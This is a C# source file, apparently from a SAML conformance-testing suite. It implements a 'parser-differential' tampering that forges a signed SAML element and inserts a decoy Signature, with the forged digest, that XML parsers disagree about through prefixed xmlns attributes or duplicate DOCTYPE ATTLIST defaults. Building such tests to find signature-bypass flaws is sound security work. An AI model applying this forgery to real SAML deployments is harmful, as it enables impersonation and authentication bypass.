using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A decoy Signature that is one for one kind of parser only.</summary>
internal sealed class ParserDifferential(TamperingArguments arguments) : Tampering
{
    private const string Other = "urn:example:decoy";
    private const string Token = "conformance-decoy";

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "parser-differential",
            "Forges the signed element, which keeps its Signature, and puts a decoy into Extensions that is a Signature "
            + "for one parser and not for another; it has the genuine SignatureValue and the forged digest.",
            "The IdP's SignedInfo verifies; the decoy holds the forged digest and is a Signature exactly when a "
            + "conforming parser is meant to see it.",
            [
                new("by", "What the parsers disagree on: an attribute with a prefix and the local name xmlns, or two "
                    + "ATTLIST defaults for one declaration.", ["prefixed-xmlns", "attlist-defaults"]),
                new("seen-by", "Whether the conforming parser takes the decoy for a Signature, or the other one.",
                    ["other", "conforming"]),
                Impersonation.Parameter,
            ]),
        arguments => new ParserDifferential(arguments));

    public override string Name => "parser-differential";

    private bool SeenByConforming => arguments.Text("seen-by") == "conforming";

    private bool ByAttribute => arguments.Text("by") == "prefixed-xmlns";

    public override void AfterSigning(Workpiece work)
    {
        var forgery = new InPlaceForgery(arguments, work);
        if (forgery.Element == work.Root)
        {
            // What stands in the Response changes its digest, so the decoy stands in the Signature instead.
            Holders.Object(forgery.Signature).AppendChild(Decoy(forgery, work));
        }
        else
        {
            Holders.Extensions(work.Root).AppendChild(Decoy(forgery, work));
        }

        forgery.ClaimPotency();
        work.Claim(new DecoySeen(forgery.Digest(), SeenByConforming));
    }

    public override string OnText(string text, Workpiece work)
    {
        var decoy = ByAttribute
            ? text.Replace($"xmlns=\"{Token}\"", Declarations(), StringComparison.Ordinal)
            : text.Replace($" xmlns:k=\"{Token}\"", "", StringComparison.Ordinal);
        if (ByAttribute)
        {
            return decoy;
        }

        var (first, second) = SeenByConforming ? (SamlNamespaces.XmlSignature, Other) : (Other, SamlNamespaces.XmlSignature);
        var root = decoy.IndexOf($"<{work.Root.Name}", StringComparison.Ordinal);
        return decoy[..root] + $"<!DOCTYPE {work.Root.Name} [<!ATTLIST k:Signature xmlns:k CDATA \"{first}\">"
            + $"<!ATTLIST k:Signature xmlns:k CDATA \"{second}\">]>" + decoy[root..];
    }

    /// <summary>The local name of d:xmlns is xmlns, which a parser that goes by local names takes for a declaration.</summary>
    private string Declarations()
    {
        var (real, apparent) = SeenByConforming ? (SamlNamespaces.XmlSignature, Other) : (Other, SamlNamespaces.XmlSignature);
        return $"xmlns:d=\"urn:example:d\" xmlns=\"{real}\" d:xmlns=\"{apparent}\"";
    }

    private XmlElement Decoy(InPlaceForgery forgery, Workpiece work)
    {
        var copy = Dom.Clone(forgery.Signature);
        XmlSigner.SetText(XmlSigner.Descendant(copy, "DigestValue"), forgery.Digest());
        var decoy = (XmlElement)work.Document.ImportNode(Rename(copy), true);
        return decoy;
    }

    /// <summary>The same tree under one prefix (none, or k) whose meaning only the written text decides.</summary>
    private XmlElement Rename(XmlElement element)
    {
        var prefix = ByAttribute ? "" : "k";
        var document = new XmlDocument { PreserveWhitespace = true, XmlResolver = null };
        var renamed = (XmlElement)document.AppendChild(Copy(element, prefix, document))!;
        Dom.SetNamespace(renamed, prefix, Token);
        return renamed;
    }

    private static XmlElement Copy(XmlElement element, string prefix, XmlDocument document)
    {
        var copy = document.CreateElement(prefix, element.LocalName, Token);
        copy.IsEmpty = element.IsEmpty;
        foreach (XmlAttribute attribute in element.Attributes)
        {
            if (!Dom.IsDeclaration(attribute))
            {
                copy.SetAttribute(attribute.LocalName, attribute.Value);
            }
        }

        foreach (XmlNode child in element.ChildNodes)
        {
            copy.AppendChild(child is XmlElement below
                ? Copy(below, prefix, document)
                : document.ImportNode(child, true));
        }

        return copy;
    }
}
